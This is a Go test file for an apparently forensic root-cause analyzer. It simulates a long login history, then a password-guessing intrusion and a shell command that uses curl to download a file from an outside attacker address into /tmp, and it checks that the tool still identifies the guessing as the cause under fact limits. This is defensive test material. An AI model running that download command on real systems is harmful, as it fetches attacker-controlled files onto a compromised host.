package rootcause_test

import (
	"strings"
	"testing"
	"time"

	"github.com/exhibit-dfir/exhibit/analyze/rootcause"
	"github.com/exhibit-dfir/exhibit/timeline"
	"github.com/exhibit-dfir/exhibit/timeline/store/memory"
)

// Where more is recorded than the walk may hold, what is nearest before the
// alert decides: the answer is the same, and what was left out is said.
func TestALongPastDoesNotPushTheAnswerOut(t *testing.T) {
	long := tell(t, "mail1")
	long.boot()
	for i := range 24_000 {
		long.fail("staff", "10.0.0.99")
		if i%3 == 0 {
			_, sh := long.login("carla", "10.0.0.21", "publickey", "SHA256:carla", 100+i)
			long.exec(sh, "/usr/bin/ls", "ls -l")
		}
		long.after(time.Second)
	}
	long.after(24 * time.Hour)
	for range 9 {
		long.fail("heidi", outside)
	}
	_, sh := long.login("heidi", outside, "password", "", 14)
	get := long.exec(sh, "/usr/bin/curl", "curl -so /tmp/kd http://"+outside+"/kd")
	alert := long.connect(get, outside, 80)
	eng := memory.New(long.events)
	for _, most := range []int{0, 8_000, 2_000} {
		g, err := rootcause.Why(t.Context(), eng, []timeline.ID{alert.ID}, rootcause.Options{MaxFacts: most})
		if err != nil {
			t.Fatal(err)
		}
		if len(g.Entries) == 0 || g.Entries[0].Kind != "password guessing" || g.Entries[0].Account != "heidi" || g.Entries[0].Address != outside {
			t.Errorf("at most %d: entries %+v", most, g.Entries)
		}
		said := 0
		for _, gap := range g.Gaps {
			if strings.Contains(gap.Text, "left out") {
				said++
			}
		}
		if most > 0 && (said == 0 || g.Counts.Facts > most+most/2) {
			t.Errorf("at most %d: %d kept, gaps %+v", most, g.Counts.Facts, g.Gaps)
		}
		if most == 0 && said > 0 {
			t.Errorf("nothing had to be left out: %+v", g.Gaps)
		}
	}
}
